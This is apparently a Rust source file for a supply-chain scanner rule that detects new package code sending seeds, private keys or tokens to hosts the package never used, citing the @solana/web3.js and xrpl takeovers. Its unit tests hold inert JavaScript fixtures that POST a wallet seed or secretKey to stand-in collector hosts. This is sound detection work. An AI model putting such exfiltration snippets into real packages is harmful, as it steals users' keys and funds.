//! `new-key-material-send`: new code sends values named like key material to a destination the
//! package never used.

use std::collections::BTreeSet;

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::exfiltration_shape::new_destinations;
use super::{DiffCx, MAX_EVIDENCE, NewUse, new_in_file};
use crate::facts::{Capability, JsFacts};
use crate::js::patterns::{exfil_channel, site};

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-key-material-send",
    group: "analyze",
    severity: Severity::Critical,
    default_level: Level::Deny,
    summary: "New code sends values named like key material (private keys, seeds, mnemonics, passwords, tokens) to a destination the package never used.",
    doc: r#"Secrets are not only environment variables. Wallet and client libraries hold key material in parameters and fields: `privateKey`, `secretKey`, `seed`, `mnemonic`, `password`, `passphrase`, `token`. This rule reports new code where a network request (`fetch`, `http(s).request/get`, HTTP clients, `WebSocket`, `sendBeacon`, or `.write`/`.end`/`.send` on a request) carries such a value — in the URL, the headers or the body, directly, inside an object or array, through `JSON.stringify`/templates/concatenation, or through a variable built from one — **and** the same file newly sends to a destination the package never used: a host whose site (public-suffix aware; receive-anything services such as paste sites and webhooks only by exact host) no file of the previous version named, or a destination built at run time.

**Why it matters.** This is how the @solana/web3.js (2024) and xrpl (2025) takeovers stole keys: a patch release added one function that posted the key or seed it was handed to a new host, in runtime code that already used the network and read no environment variable, so neither `new-network` nor `exfiltration-shape` applied.

Sending a token to the API the package already talked to is ordinary client code and stays quiet.

**How to silence.** A policy exception on `new-key-material-send` for the exact `name@version`, after reading the code."#,
};

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    let old_hosts = cx.old_hosts();
    let old_sites: BTreeSet<&str> = old_hosts.iter().map(|h| site(h)).collect();
    let known = |h: &str| {
        old_hosts.contains(h) || (exfil_channel(h).is_none() && old_sites.contains(site(h)))
    };
    let mut uses: Vec<NewUse<'_>> = Vec::new();
    let mut hosts: Vec<String> = Vec::new();
    for (path, f) in &cx.new.files {
        let Some(js) = &f.js else { continue };
        if !js.has(Capability::SendsKeyMaterial)
            || cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3)
        {
            continue;
        }
        let base = cx.baseline(path);
        let sends = new_in_file(js, base, Capability::SendsKeyMaterial);
        if sends.is_empty() {
            continue;
        }
        let Some(dest) = new_destination(js, base, &known) else {
            continue;
        };
        hosts.push(dest);
        let install_time = cx.new.is_install_time(path);
        uses.extend(sends.into_iter().map(|occ| NewUse {
            path,
            occ,
            install_time,
        }));
    }
    let Some(first) = uses.first() else { return };
    let mut what: Vec<&str> = uses
        .iter()
        .filter_map(|u| u.occ.detail.as_deref())
        .collect();
    what.dedup();
    what.truncate(3);
    hosts.dedup();
    hosts.truncate(3);
    let message = format!(
        "{}:{} sends {} to {}; {} never sent there",
        first.path,
        first.occ.line,
        what.join(", "),
        hosts.join(", "),
        cx.from(),
    );
    out.push(
        Finding::new(&RULE, message)
            .with_evidence_all(uses.iter().take(MAX_EVIDENCE).map(NewUse::evidence)),
    );
}

/// A destination of new code in `js` that the package never used, described.
fn new_destination(
    js: &JsFacts,
    base: Option<&JsFacts>,
    known: &impl Fn(&str) -> bool,
) -> Option<String> {
    if js.hosts_overflow {
        return Some("hosts past the listed ones".into());
    }
    new_destinations(js, base)
        .into_iter()
        .find_map(|d| match d.host.as_deref() {
            Some(h) if d.sent && !known(h) => Some(h.to_string()),
            Some(_) => None,
            None => Some("a destination computed at run time".into()),
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    /// A wallet library that already used the network for its own RPC endpoint.
    const WALLET: &str = "const https = require('https');\nconst RPC = 'https://rpc.wallet.example';\nclass Wallet {\n  constructor(seed) { this.seed = seed; }\n  balance(addr, cb) { return https.get(RPC + '/balance/' + addr, cb); }\n}\nfunction fromSeed(seed) {\n  return new Wallet(seed);\n}\nmodule.exports = { Wallet, fromSeed };\n";

    #[test]
    fn a_seed_posted_to_a_new_host_fires() {
        // The xrpl shape, inert: one added call in the seed handling posts the seed.
        let new = WALLET.replace(
            "  return new Wallet(seed);",
            "  checkValidityOfSeed(seed);\n  return new Wallet(seed);",
        ) + "function checkValidityOfSeed(seed) {\n  fetch('https://0x9c.collector.example/xc', { method: 'POST', headers: { 'ad-referral': seed } });\n}\n";
        let f = diff_index(WALLET, &new);
        let hit = find(&f, RULE.code).expect("finding");
        assert!(
            hit.message.contains("seed") && hit.message.contains("0x9c.collector.example"),
            "{}",
            hit.message
        );
        assert!(find(&f, "new-network").is_none());
    }

    #[test]
    fn a_private_key_in_a_request_body_fires() {
        // The @solana/web3.js shape: the key goes into a body built beforehand.
        let new = format!(
            "{WALLET}function addToQueue(kp) {{\n  const body = JSON.stringify({{ k: kp.secretKey }});\n  const req = https.request({{ hostname: 'sol-rpc.collector.example', method: 'POST' }});\n  req.end(body);\n}}\n"
        );
        let f = diff_index(WALLET, &new);
        assert!(find(&f, RULE.code).is_some(), "{:?}", codes(&f));
    }

    #[test]
    fn a_token_sent_to_the_api_the_package_already_used_is_quiet() {
        let new = format!(
            "{WALLET}function auth(token, cb) {{\n  return https.get({{ hostname: 'auth.wallet.example', headers: {{ authorization: 'Bearer ' + token }} }}, cb);\n}}\n"
        );
        let f = diff_index(WALLET, &new);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn other_values_sent_to_a_new_host_are_not_key_material() {
        let new = format!(
            "{WALLET}function ping(addr) {{\n  fetch('https://stats.collector.example/p', {{ method: 'POST', body: JSON.stringify({{ addr, version: '1' }}) }});\n}}\n"
        );
        let f = diff_index(WALLET, &new);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
        assert!(find(&f, "new-destination").is_some(), "{:?}", codes(&f));
    }

    #[test]
    fn a_name_reused_by_another_function_does_not_make_a_destination_computed() {
        // Minified bundles reuse one-letter names: `C` is a built string at the top and
        // the client's own endpoint in a function (firebase 13.2.0's installations client).
        let new = format!(
            "{WALLET}const C = `${{process.title}}:${{process.pid}}`;\nfunction endpoint() {{\n  return RPC + '/v1/tokens';\n}}\nasync function refresh(w) {{\n  const C = endpoint(), P = {{ Authorization: 'Bearer ' + w.refreshToken }};\n  return fetch(C, {{ method: 'POST', headers: P }});\n}}\n"
        );
        let f = diff_index(WALLET, &new);
        assert!(find(&f, RULE.code).is_none(), "{:?}", codes(&f));
    }

    #[test]
    fn a_computed_destination_cannot_be_laundered_by_redeclaring_its_name_elsewhere() {
        let new = format!(
            "{WALLET}function send(kp, h) {{\n  const u = 'https://' + h + '/k';\n  fetch(u, {{ method: 'POST', body: kp.secretKey }});\n}}\nfunction unused() {{\n  const u = endpoint();\n  return u;\n}}\n"
        );
        let f = diff_index(WALLET, &new);
        let hit = find(&f, RULE.code).unwrap_or_else(|| panic!("{:?}", codes(&f)));
        assert!(hit.message.contains("computed"), "{}", hit.message);
        // Nor by a parameter of the same name in a function declared before it is used.
        let new = format!(
            "{WALLET}const u = ['https:', '', globalThis.h, 'k'].join('/') + Math.random();\nfunction noop(u) {{ return u; }}\nfunction send(kp) {{\n  fetch(u, {{ method: 'POST', body: kp.secretKey }});\n}}\n"
        );
        let f = diff_index(WALLET, &new);
        assert!(find(&f, RULE.code).is_some(), "{:?}", codes(&f));
    }
}
